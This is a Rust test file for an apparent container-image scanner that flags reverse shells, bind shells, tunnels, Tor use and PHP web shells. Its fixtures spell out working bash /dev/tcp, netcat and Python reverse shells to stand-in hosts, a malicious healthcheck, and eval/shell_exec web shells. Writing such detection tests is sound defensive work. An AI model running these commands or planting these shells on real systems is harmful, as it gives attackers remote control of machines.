use super::*;
use crate::analyzers::acts::trial::{check_command, check_file, check_started, counted};
use crate::analyzers::fixture::Fixture;

fn check(script: &str, expect: &[&str]) {
    check_started(&Shells, script, expect);
}

#[test]
fn connected_shells_convict_where_the_host_is_written_down() {
    check("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n", &["C2-REVSH!"]);
    check("bash -i >& /dev/tcp/$HOST/4444 0>&1\n", &["C2-REVSH?"]);
    check("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n", &[]);
    check_command(&Shells, &["sh", "-c", "nc -e /bin/sh h.example 4444"], &["C2-REVSH!"]);
    check_command(&Shells, &["nc", "-e", "/bin/sh", "h.example", "4444"], &["C2-REVSH!"]);
    check_command(
        &Shells,
        &[
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.7',4));os.dup2(s.fileno(),0);pty.spawn('sh')",
        ],
        &["C2-REVSH!"],
    );
    let mut image = Fixture::new();
    image.config.config.healthcheck.test =
        vec!["CMD-SHELL".into(), "bash -i >& /dev/tcp/192.0.2.7/1 0>&1".into()];
    assert_eq!(counted(&image.run(&Shells).findings), ["C2-REVSH!"]);
}

#[test]
fn collections_of_examples_explain() {
    let line = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
    check_file(&Shells, "opt/x.sh", line, &[], &["C2-REVSH?"]);
    check_file(&Shells, "usr/share/doc/x.sh", line, &[], &[]);
    let mut image = Fixture::new();
    for number in 0..30 {
        image.file(&format!("usr/share/lists/{number}.sh"), 0o755, line.as_bytes());
    }
    // Words for fuzzing and rules of scanners are text.
    image.file(
        "usr/share/lists/fuzz",
        0o644,
        b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\nnc -e /bin/sh 192.0.2.7 1\n",
    );
    image.file("usr/share/nmap/scripts/x.nse", 0o644, b"-- nc -e /bin/sh\nos.execute('x')\n");
    assert_eq!(counted(&image.run(&Shells).findings), [""; 0]);
}

#[test]
fn other_ways_in_corroborate() {
    check("nc -l -p 4444 -e /bin/sh &\n", &["C2-BINDSH?"]);
    check("telnetd -l /bin/sh\n", &["C2-BINDSH?"]);
    check("nc -l -p 80 > /tmp/x\ntelnetd\nsocat TCP-LISTEN:80,fork TCP:db:80\n", &[]);
    check("chisel client https://h.example:8 R:socks &\nexec app\n", &["C2-TUNNEL?"]);
    check("ssh -fN -R 2222:localhost:22 u@h.example\n", &["C2-TUNNEL?"]);
    check("ngrok http 80 --authtoken abcdefgh12345678\n", &["C2-TUNNEL?"]);
    check(
        "ngrok http 80 --authtoken \"$NGROK_TOKEN\"\ncloudflared tunnel run --token $TOKEN\nchisel server\n",
        &[],
    );
    check("tmate -k tmk-abcdefghij -F\n", &["C2-RMM?"]);
    check("tmate -k \"$KEY\" -F\n", &[]);
    check("torsocks /app/worker\n", &["C2-TORWRAP?"]);
    check("proxychains4 -q python3 /dao.py\n", &["C2-TORWRAP?"]);
    check("tor -f /etc/tor/torrc\n", &[]);
    let service = format!("{}d", "a".repeat(55));
    check(
        &format!("curl -s --socks5-hostname 127.0.0.1:9050 http://{service}.onion/c > /tmp/c\n"),
        &["C2-ONION?"],
    );
    check("curl -s http://short.onion/c > /tmp/c\n", &[]);
}

#[test]
fn pages_that_run_requests() {
    let found = |path: &str, text: &str| {
        let mut image = Fixture::new();
        image.file(path, 0o644, text.as_bytes());
        counted(&image.run(&Shells).findings)
    };
    assert_eq!(found("var/www/html/x.php", "<?php @eval($_POST['p']);\n"), ["C2-WEBSHELL?"]);
    assert_eq!(
        found("var/www/html/x.php", "<?php $c = $_REQUEST['c']; echo shell_exec($c);\n"),
        ["C2-WEBSHELL?"]
    );
    assert_eq!(
        found("var/www/html/x.php", "<?php eval(base64_decode(file_get_contents('php://input')));\n"),
        ["C2-WEBSHELL?"]
    );
    assert_eq!(
        found(
            "var/www/html/x.php",
            "<?php $id = (int) $_GET['id']; $db->query($id); include 'x.php'; exec('convert a b');\n"
        ),
        [""; 0]
    );
    assert_eq!(found("usr/lib/sdk/setup.php", "<?php eval(file_get_contents('php://input'));\n"), [""; 0]);
    assert_eq!(found("var/www/html/tests/x.php", "<?php eval($_POST['p']);\n"), [""; 0]);
}
